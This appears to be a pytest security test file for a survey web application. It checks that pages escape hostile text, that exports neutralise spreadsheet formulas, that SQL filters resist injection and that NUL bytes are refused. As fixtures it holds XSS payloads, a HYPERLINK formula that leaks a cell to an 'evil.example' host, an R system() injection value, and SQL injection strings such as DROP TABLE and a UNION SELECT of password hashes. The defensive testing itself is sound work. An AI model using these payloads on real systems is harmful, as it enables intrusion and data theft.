"""Hostile text from customers (open answers), imported samples (names, attributes) and
addresses (filters, parameters) is shown escaped on every page, neutralised in every
export, and never reaches SQL as code."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import func, select, update

from survey.models import Answer, Contact, Response, Survey
from tests.conftest import STRATA
from tests.security.test_route_matrix import ROUTES, _address

SCRIPT = '<script>alert("pwned")</script>'
TAG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BRANCH = f"GZ-9{TAG}"
RAW = ("<script>alert", "<img src=x onerror")


@pytest.fixture
def hostile(app, db, world, reported):
    """The reported survey with a hostile branch name and hostile comments, and a phone
    customer whose name and attributes are hostile."""
    slug = reported(per_month=60, strata={**STRATA, BRANCH: (5000, 0.6)})
    db.rollback()
    survey_id = db.scalar(select(Survey.id).where(Survey.slug == slug))
    comments = select(Answer.id).where(
        Answer.survey_id == survey_id, Answer.question_id == "q_comment"
    )
    ids = db.scalars(comments.order_by(Answer.id).limit(3)).all()
    for answer_id, text in zip(ids, (SCRIPT, TAG, FORMULA), strict=True):
        db.execute(update(Answer).where(Answer.id == answer_id).values(value_text=text))
    db.execute(
        update(Contact)
        .where(Contact.survey_id == world.survey_id)
        .values(name=SCRIPT, title=TAG, attributes={"branch": BRANCH, "queue": SCRIPT})
    )
    db.commit()
    return slug


def _unescaped(reply) -> list[str]:
    if reply.mimetype not in ("text/html", "image/svg+xml", "application/json"):
        return []
    return [raw for raw in RAW if raw in reply.get_data(as_text=True)]


def test_every_page_escapes_hostile_text(visitors, world, hostile):
    admin = visitors["admin"]
    admin.client.post(f"/cati/{world.slug}/next", data={"csrf_token": admin.csrf})
    admin.client.post(  # the interview pipes the customer's title into the script
        f"/cati/case/{world.case_id}/start", data={"csrf_token": admin.csrf, "language": "en"}
    )
    found = []
    for endpoint, rule, method in ROUTES:
        if method != "GET" or endpoint == "static":
            continue
        address = _address(rule, endpoint, world)
        if endpoint.startswith(("reports.", "api.")):
            address = address.replace(world.slug, hostile)
        for query in ("", f"?branch={BRANCH}&segment=branch&var=q_overall&q={SCRIPT}"):
            reply = admin.client.get(address + query)
            found += [f"{address}{query}: {raw}" for raw in _unescaped(reply)]
    assert not found
    # The hostile text was on the pages, escaped:
    case_page = admin.client.get(f"/cati/case/{world.case_id}").text
    assert "&lt;script&gt;alert" in case_page
    interview = admin.client.get(f"/cati/case/{world.case_id}/interview").text
    assert "&#34;&gt;&lt;img src=x onerror" in interview  # the piped title
    segments = admin.client.get(f"/reports/{hostile}/segments?segment=branch").text
    assert "GZ-9&#34;&gt;&lt;img src=x onerror" in segments
    comments = admin.client.get(f"/reports/{hostile}/comments?q=pwned").text
    assert "&lt;script&gt;alert" in comments


def _cells(reply, kind) -> list[str]:
    if kind == "csv":
        return [c for row in csv.reader(io.StringIO(reply.get_data(as_text=True))) for c in row]
    book = openpyxl.load_workbook(io.BytesIO(reply.data))
    return [str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("export", ["responses", "tables"])
def test_exports_neutralise_formulas(visitors, hostile, kind, export):
    reply = visitors["admin"].client.get(f"/reports/{hostile}/{export}.{kind}?segment=branch")
    assert reply.status_code == 200
    cells = _cells(reply, kind)
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
    if export == "responses":
        assert "'" + FORMULA in cells  # kept, as text
        assert SCRIPT in cells  # exports are data: kept as written, never run


def test_the_r_script_quotes_hostile_filter_values(visitors, hostile):
    reply = visitors["admin"].client.get(
        f"/reports/{hostile}/analysis.R", query_string={"branch": 'x"); system("id'}
    )
    script = reply.get_data(as_text=True)
    assert 'system("id' not in script.replace('\\"', "")


INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE responses; --",
    "x' UNION SELECT password_hash FROM users --",
    "2026-10' OR 1=1 --",
    "%' --",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_sql_injection_in_every_filter_and_parameter_does_nothing(
    visitors, world, hostile, db, payload
):
    db.rollback()
    before = db.scalar(select(func.count()).select_from(Response))
    admin = visitors["admin"].client
    parameters = ("branch", "channel", "tier", "period", "segment", "var", "row", "column", "q")
    bad = []
    for endpoint, rule, method in ROUTES:
        if method != "GET" or not endpoint.startswith(("reports.", "api.", "fieldwork.")):
            continue
        address = _address(rule, endpoint, world).replace(world.slug, hostile)
        reply = admin.get(address, query_string={p: payload for p in parameters})
        text = reply.get_data(as_text=True) if reply.mimetype != "application/octet-stream" else ""
        if reply.status_code >= 500 or "scrypt:" in text or "pbkdf2:" in text:  # a hash leaked
            bad.append(f"{address}: {reply.status_code}")
    slugged = admin.get(f"/reports/{payload}/")
    assert slugged.status_code == 404
    assert not bad
    db.rollback()
    assert db.scalar(select(func.count()).select_from(Response)) == before


@pytest.mark.parametrize(
    "address",
    [
        "/reports/{slug}/?branch=%00",
        "/reports/{slug}%00/",
        "/api/v1/surveys/{slug}/estimates?var=%00",
    ],
)
def test_a_nul_character_is_refused_at_the_door(visitors, hostile, address):
    reply = visitors["admin"].client.get(address.format(slug=hostile))
    assert reply.status_code == 400  # PostgreSQL refuses NUL in text: never a database error


def test_a_nul_character_in_a_form_is_refused(visitors, world):
    admin = visitors["admin"]
    reply = admin.client.post(
        "/admin/tokens", data={"csrf_token": admin.csrf, "name": "dash\x00board"}
    )
    assert reply.status_code == 400
